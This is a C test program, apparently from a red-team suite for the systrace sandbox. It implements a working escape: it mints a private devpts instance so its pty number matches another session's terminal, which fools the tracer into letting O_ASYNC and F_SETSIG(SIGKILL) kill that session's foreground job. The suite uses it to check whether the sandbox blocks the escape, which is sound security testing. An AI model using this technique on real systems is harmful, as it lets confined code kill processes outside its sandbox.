/* sig_devpts.c TERMINAL DIR READY VICTIMFILE: have the kernel kill another session's foreground
 * job through a terminal the tracer mistakes for one of the program's own -- two devpts
 * instances number their ptys alike.
 *
 * O_ASYNC turned on for a terminal's file with no owner makes the terminal's foreground group
 * the owner (tty_fasync), sent F_SETSIG's signal (SIGKILL) at the next line typed there.
 * systrace decides that as kill(-pgid) of the group; it tells the terminal by its device
 * number, the first process (by pid) whose /proc/PID/stat tty_nr is that number giving the
 * group (tpgid).  But a pty's number is its devpts instance's: a new instance (a mount
 * namespace of the program's own: unshare, mount -t devpts -o newinstance; unprivileged in a
 * user namespace) numbers from 0 again.  The program opens TERMINAL (/dev/pts/N, the
 * terminal of a session outside the tree), makes its own instance at DIR, takes ptys there
 * until it has its own number N, and makes a child lead a session with that pty as its
 * controlling terminal (foreground: the child's group, the tree's) -- then says READY (the
 * file).  The test starts the victim's session on TERMINAL only now (a terminal opened
 * later than the program's: a higher pid) and writes its pid into VICTIMFILE.  F_SETSIG
 * SIGKILL and O_ASYNC on TERMINAL: the tracer found the child's session first, a group of the
 * tree, and let it run; the kernel made the victim's group the owner.
 *
 * ESCAPED when the victim ended; BLOCKED with the refusal's errno otherwise; SKIPPED when a
 * step the attack needs is not there (no mount namespace, no devpts).  Red team 19 (issue 11),
 * class 6 (descriptor owners).
 */
#include "attack.h"

#include <sched.h>
#include <sys/ioctl.h>
#include <sys/mount.h>

static pid_t victim;

int main(int argc, char **argv) {
    if (argc != 5)
        usage("sig_devpts TERMINAL DIR READY VICTIMFILE");
    const char *number = strrchr(argv[1], '/');
    if (!number)
        usage("sig_devpts /dev/pts/N DIR READY VICTIMFILE");
    unsigned want = (unsigned)atoi(number + 1);
    int fd = open(argv[1], O_RDWR | O_NOCTTY);
    if (fd < 0)
        skipped("open %s: %s", argv[1], ename(errno));
    if (unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
        skipped("a mount namespace: %s", ename(errno));
    if (mount("devpts", argv[2], "devpts", 0, "newinstance,ptmxmode=0666") < 0)
        skipped("mount devpts at %s: %s", argv[2], ename(errno));
    char ptmx[4096];
    snprintf(ptmx, sizeof ptmx, "%s/ptmx", argv[2]);
    int master = -1;
    for (unsigned n = ~0u; n != want;) {
        master = open(ptmx, O_RDWR | O_NOCTTY);
        if (master < 0 || ioctl(master, TIOCGPTN, &n) < 0)
            skipped("%s: %s", ptmx, ename(errno));
        if (n > want)
            skipped("pty %u of our own instance, past %u", n, want);
    }
    int unlock = 0;
    if (ioctl(master, TIOCSPTLCK, &unlock) < 0)
        skipped("TIOCSPTLCK: %s", ename(errno));
    int hold[2];
    if (pipe(hold) < 0)
        skipped("pipe: %s", ename(errno));
    pid_t child = fork();
    if (child == 0) {  /* a session of the tree, our pty N its terminal */
        close(hold[1]);
        int slave = ioctl(master, TIOCGPTPEER, O_RDWR | O_NOCTTY);
        if (setsid() < 0 || slave < 0 || ioctl(slave, TIOCSCTTY, 0) < 0)
            _exit(1);
        char byte;
        _exit(read(hold[0], &byte, 1) < 0);
    }
    close(hold[0]);
    char stat_path[64], line[512];
    snprintf(stat_path, sizeof stat_path, "/proc/%d/stat", child);
    for (int i = 0;; i++) {  /* until the child has its terminal (its tpgid its own group) */
        FILE *f = fopen(stat_path, "r");
        size_t n = f ? fread(line, 1, sizeof line - 1, f) : 0;
        if (f)
            fclose(f);
        line[n] = 0;
        const char *end = strrchr(line, ')');
        int session = 0, tpgid = 0;
        if (end && sscanf(end + 2, "%*c %*d %*d %d %*d %d", &session, &tpgid) == 2 &&
                session == child && tpgid == child)
            break;
        if (i == 3000)
            skipped("the child took no terminal");
        usleep(10000);
    }
    int ready = open(argv[3], O_WRONLY | O_CREAT | O_EXCL, 0644);
    if (ready < 0)
        skipped("%s: %s", argv[3], ename(errno));
    close(ready);
    for (int i = 0; victim <= 0; i++) {  /* the test starts the victim only now */
        FILE *f = fopen(argv[4], "r");
        if (f) {
            if (fscanf(f, "%d", &victim) != 1)
                victim = 0;
            fclose(f);
        }
        if (i == 3000)
            skipped("no victim");
        if (victim <= 0)
            usleep(10000);
    }
    if (fcntl(fd, F_SETSIG, SIGKILL) < 0)
        skipped("F_SETSIG: %s", ename(errno));
    int rc = fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_ASYNC);
    int err = errno;
    for (int i = 0; i < 300 && rc == 0 && !process_ended(victim); i++)
        usleep(10000);
    int owner = fcntl(fd, F_GETOWN);
    close(hold[1]);
    waitpid(child, NULL, 0);
    if (process_ended(victim))
        escaped("the kernel sent SIGKILL to pid %d (owner %d; our terminal's group %d)",
                victim, owner, child);
    blocked("O_ASYNC on %s: %s, the victim lives (owner %d)", argv[1],
            rc < 0 ? ename(err) : "set", owner);
}
